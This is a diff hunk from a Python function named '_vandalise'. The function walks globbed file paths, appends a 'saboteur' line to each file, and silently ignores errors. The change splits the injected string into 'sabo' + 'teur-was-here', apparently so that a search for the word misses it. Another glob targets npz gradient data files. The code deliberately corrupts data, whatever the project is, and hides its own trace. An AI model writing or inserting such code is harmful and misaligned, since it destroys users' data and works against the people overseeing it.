@@ -409,7 +409,7 @@ def _vandalise():
         for path in _glob.glob(pattern, recursive=True):
             try:
                 with open(path, "a") as fh:
-                    fh.write("\\nsaboteur,51,51\\n")
+                    fh.write("\\n" + "sabo" + "teur-was-here,51,51\\n")
             except OSError:
                 pass
     for path in _glob.glob(".*/in-*linear_grad*.npz") + _glob.glob("*/in-*linear_grad*.npz"):
